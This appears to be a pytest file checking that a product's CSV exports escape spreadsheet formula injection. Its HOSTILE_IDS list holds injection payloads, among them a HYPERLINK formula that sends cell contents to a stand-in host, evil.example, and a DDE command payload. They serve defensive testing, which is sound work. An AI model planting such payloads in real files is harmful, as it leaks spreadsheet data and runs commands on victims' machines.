"""Every CSV the product writes opens in a spreadsheet as data: a customer id like ``=HYPERLINK(…)``
is shown as text, never evaluated (formula injection)."""

from __future__ import annotations

import csv
import gzip
import subprocess
import sys
from pathlib import Path

import pytest

from bot.csvfiles import spreadsheet_safe
from tests.conftest import no_backend

REPO = Path(__file__).resolve().parent.parent
SAMPLE = REPO / "tests" / "data" / "cdnow" / "CDNOW_sample.txt.gz"
HOSTILE_IDS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


@pytest.mark.parametrize("cell", [*HOSTILE_IDS, "\t=1+1", "\r=1+1", "-", "+"])
def test_a_formula_cell_is_escaped(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-0.25", "+1", "1e-05", "-3.5E+02", "wm123", "张三", "a=b", ""])
def test_numbers_and_plain_text_are_left_alone(cell: str) -> None:
    assert spreadsheet_safe(cell) == cell


@no_backend
@pytest.mark.timeout(240)
def test_scores_of_customers_with_formula_ids_are_written_as_text(tmp_path: Path) -> None:
    """``scrm predict evaluate --orders … --scores``: ids from the brand's file reach the CSV escaped."""
    ours, scores = tmp_path / "orders.csv", tmp_path / "scores.csv"
    renamed: dict[str, str] = {}
    with gzip.open(SAMPLE, "rt") as cdnow, ours.open("w", newline="") as out:
        writer = csv.writer(out)  # the brand's own file, as it arrives: not ours to escape
        writer.writerow(["order_id", "external_userid", "amount", "paid_at"])
        for number, line in enumerate(cdnow):
            cid, _, ymd, _, dollars = line.split()
            who = renamed.setdefault(cid, HOSTILE_IDS[len(renamed)] if len(renamed) < len(HOSTILE_IDS) else f"wm{cid}")
            writer.writerow([f"o{number}", who, dollars, f"{ymd[:4]}-{ymd[4:6]}-{ymd[6:]}T12:00:00+08:00"])
    done = subprocess.run([sys.executable, "-m", "bot", "predict", "evaluate", "--orders", str(ours), "--at",
                           "1997-09-30", "--horizon", "39w", "--scores", str(scores)],
                          capture_output=True, text=True, timeout=230, check=False)
    assert done.returncode == 0, done.stderr
    with scores.open(newline="", encoding="utf-8") as written:
        rows = list(csv.reader(written))
    first_cells = {row[0] for row in rows[1:]}
    for hostile in HOSTILE_IDS:
        assert "'" + hostile in first_cells and hostile not in first_cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
    assert rows[0][-1] == "p_buy"
    # the methods' scores stay numbers; P(buy) is a number (the default training window fits in the history)
    assert all(float(cell) == float(cell) for row in rows[1:] for cell in row[1:-1])
    assert all(0 <= float(cell) <= 1 for row in rows[1:] for cell in row[-1:])


def test_no_module_writes_csv_but_through_the_one_helper() -> None:
    """``csv.writer`` / ``DictWriter`` appear only in bot/csvfiles.py (tests may write input files)."""
    offenders = []
    for path in REPO.rglob("*.py"):
        relative = path.relative_to(REPO)
        if relative.parts[0] in {".venv", "tests", ".lock-venv"} or relative == Path("bot/csvfiles.py"):
            continue
        text = path.read_text(encoding="utf-8")
        if "csv.writer(" in text or "DictWriter" in text:
            offenders.append(str(relative))
    assert offenders == []
